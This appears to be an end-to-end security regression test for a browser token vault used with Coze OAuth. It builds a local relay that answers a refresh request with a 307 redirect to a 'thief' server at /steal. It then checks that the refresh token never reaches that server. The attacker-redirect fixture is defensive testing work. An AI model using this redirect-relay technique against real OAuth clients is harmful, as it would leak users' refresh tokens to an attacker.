/**
 * Hostile review 7 (e2e, real Chromium): the vault's token requests follow redirects. The vault is
 * configured with a token endpoint that is https-or-loopback and ends in Coze's token path (here a
 * loopback relay in front of the fake Coze, standing for the app's proxy or any hop that answers
 * 307). On a refresh the endpoint answers 307 to another origin: Chromium's fetch in the
 * SharedWorker re-posts the same JSON body, refresh token included, to that origin.
 * Unit counterpart: test/hostile7/vault.attacks.test.ts.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { VaultTokens } from '../../src/core/vault/vaultProtocol';
import { startFakeCozeServer } from '../../src/testing/node';
import { s256CodeChallenge } from '../../src/testing/server/pkce';
import { chromiumForThisFile } from './support/harness';
import { startStaticServer, type StaticServer } from './support/staticServer';

const CLIENT_ID = 'e2e-hostile7';
const VERIFIER = 'e2e-hostile7-verifier-0123456789-abcdefghijklmnopqrstuvwxyz';
const PAGE = `<!doctype html>
<meta charset="utf-8">
<script type="module">
  import { createVaultClient } from '/dist/core/vault/vaultClient.js';
  window.__vault = { createVaultClient };
  document.title = 'ready';
</script>`;
const CORS = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Methods': 'POST' };

const browserHolder = chromiumForThisFile();
let root: string;
let site: StaticServer;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'coze-hostile7-e2e-'));
  const outDir = join(root, 'dist');
  await build({ configFile: 'vite.config.ts', logLevel: 'warn', build: { outDir, emptyOutDir: true } });
  await build({ configFile: 'vite.worker.config.ts', logLevel: 'warn', build: { outDir: join(outDir, 'vault'), emptyOutDir: true } });
  await writeFile(join(root, 'index.html'), PAGE);
  site = await startStaticServer(root);
}, 180_000);

afterAll(async () => {
  await site?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

function readBody(req: IncomingMessage): Promise<string> {
  return new Promise((resolve) => {
    let text = '';
    req.on('data', (chunk) => (text += chunk));
    req.on('end', () => resolve(text));
  });
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe('hostile7: the vault and redirects (real Chromium)', () => {
  it('fixed: a 307 from the configured token endpoint carries the refresh token to another origin', async () => {
    const coze = await startFakeCozeServer({ clients: [{ clientId: CLIENT_ID, name: 'Hostile 7', redirectUris: [`${site.origin}/callback`] }] });
    const stolen: string[] = [];
    const thief = createServer(async (req, res) => {
      const body = await readBody(req);
      if (req.method === 'POST') stolen.push(body);
      res.writeHead(200, { ...CORS, 'Content-Type': 'application/json' });
      res.end('{}');
    });
    const thiefOrigin = await listen(thief);
    // The configured endpoint: forwards the code exchange to Coze, answers a refresh with 307.
    const relay = createServer(async (req, res) => {
      if (req.method === 'OPTIONS') {
        res.writeHead(204, CORS);
        res.end();
        return;
      }
      const body = await readBody(req);
      if (body.includes('"refresh_token"')) {
        res.writeHead(307, { ...CORS, Location: `${thiefOrigin}/steal` });
        res.end();
        return;
      }
      const answer = await fetch(`${coze.apiOrigin}/api/permission/oauth2/token`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body });
      res.writeHead(answer.status, { ...CORS, 'Content-Type': 'application/json' });
      res.end(await answer.text());
    });
    const relayOrigin = await listen(relay);
    const context = await browserHolder.browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`${site.origin}/`);
      await page.waitForFunction(() => document.title === 'ready');
      const tokenEndpoint = `${relayOrigin}/api/permission/oauth2/token`;
      await page.evaluate(
        ([clientId, endpoint]) => {
          const w = window as unknown as { __vault: { createVaultClient: (o: unknown) => unknown; client?: unknown } };
          w.__vault.client = w.__vault.createVaultClient({ clientId, tokenEndpoint: endpoint });
          return (w.__vault.client as { ready: Promise<unknown> }).ready;
        },
        [CLIENT_ID, tokenEndpoint] as const,
      );
      const authorize = new URL(`${coze.webOrigin}/api/permission/oauth2/authorize`);
      authorize.search = new URLSearchParams({
        response_type: 'code',
        client_id: CLIENT_ID,
        redirect_uri: `${site.origin}/callback`,
        state: 'h7',
        code_challenge: await s256CodeChallenge(VERIFIER),
        code_challenge_method: 'S256',
      }).toString();
      const code = new URL(await coze.model.approve(authorize.href)).searchParams.get('code') ?? '';
      const tokens = await page.evaluate(
        (grant) => (window as unknown as { __vault: { client: { exchangeCode(g: unknown): Promise<VaultTokens> } } }).__vault.client.exchangeCode(grant),
        { code, codeVerifier: VERIFIER, redirectUri: `${site.origin}/callback` },
      );
      expect(tokens).toMatchObject({ rotation: 0, canRefresh: true });
      await page
        .evaluate(
          ([sessionId]) => (window as unknown as { __vault: { client: { refresh(s: string, r: number): Promise<unknown> } } }).__vault.client.refresh(sessionId, 0),
          [tokens.sessionId] as const,
        )
        .catch(() => undefined);
      expect(stolen.join('\n'), 'the refresh token must never be posted anywhere but the configured token endpoint').not.toContain('refresh_token');
    } finally {
      await context.close().catch(() => undefined);
      await new Promise<void>((resolve) => relay.close(() => resolve()));
      await new Promise<void>((resolve) => thief.close(() => resolve()));
      await coze.close();
    }
  });
});
